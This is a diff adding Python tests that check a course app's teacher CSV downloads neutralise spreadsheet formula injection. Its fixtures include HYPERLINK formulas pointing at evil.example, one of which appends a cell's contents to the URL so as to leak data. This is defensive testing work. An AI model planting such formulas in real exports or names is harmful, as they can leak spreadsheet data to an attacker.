@@ -243,3 +243,64 @@ def test_a_page_survives_a_bad_item_that_got_past_the_checks(tmp_path, page):
         at = open_app(page)
         assert not at.exception, [e.value for e in at.exception]
         assert any("could not be drawn" in e.value for e in at.error)
+
+
+# -- 4. no formula from a name or an answer in the teacher's CSVs -----------------------------
+
+def test_csv_cells_that_start_like_a_formula_are_neutralised():
+    import pandas as pd
+
+    from course.store.progress import csv_text
+
+    frame = pd.DataFrame({"name": ['=HYPERLINK("http://evil.example","x")', "+1", "-2+3",
+                                   "@SUM(A1)", "\tTab", "\rCR", "Ava", "a=b"],
+                          "right": [1, -1, 0, 2, 3, 4, 5, 6]})
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
+    assert rows[0] == ["name", "right"]
+    assert [r[1] for r in rows[1:]] == ["1", "-1", "0", "2", "3", "4", "5", "6"]   # numbers stay
+    assert [r[0] for r in rows[1:]] == ['\'=HYPERLINK("http://evil.example","x")', "'+1",
+                                        "'-2+3", "'@SUM(A1)", "'\tTab", "'\rCR", "Ava", "a=b"]
+
+
+def cells(body: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
+
+
+def test_the_class_csvs_hold_no_formula_from_a_display_name(provider, tmp_path):
+    """A learner whose provider name is a formula; the teacher downloads both Class CSVs from
+    the real server."""
+    from course.store import Attempt, ProgressStore
+
+    port = free_port()
+    secrets = write_secrets(tmp_path / "secrets.toml", port, provider, GOOD_SECRET,
+                            '[roles]\nteachers = ["tia"]\n')
+    db = tmp_path / "p.db"
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Ava")'
+    set_claims(provider, "mallory", {"name": evil, "email": "m@example.test"})
+    with AppServer({ENV_VAR: str(db)}, log=tmp_path / "app.log", secrets=secrets,
+                   host="localhost", port=port) as app:
+        mallory = Tab(app.url, login=log_in(app.url, "mallory"))
+        mallory.run()                                 # remembered under the formula name
+        mallory.close()
+        ProgressStore(db).record(Attempt(f"{provider}#mallory", DEAL, 0, "bring_in", "bring-in",
+                                         "@SUM(1+1)", False))
+        tab = Tab(app.url, login=log_in(app.url, "tia"))
+        try:
+            page = tab.run(page="class")
+        finally:
+            tab.close()
+        urls = [p.url for n, p in page.elements if n == "download_button"]
+        assert len(urls) == 2
+        bodies = [urllib.request.urlopen(app.url + u, timeout=10).read().decode() for u in urls]
+    for body in bodies:
+        formulas = [c for c in cells(body) if c.startswith(("=", "+", "@", "\t", "\r"))
+                    or (c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit())]
+        assert not formulas, formulas
+    assert all("'" + evil in cells(body) for body in bodies)
+    assert '"@SUM(1+1)"' in cells(bodies[1])        # the answer, as JSON text: no formula
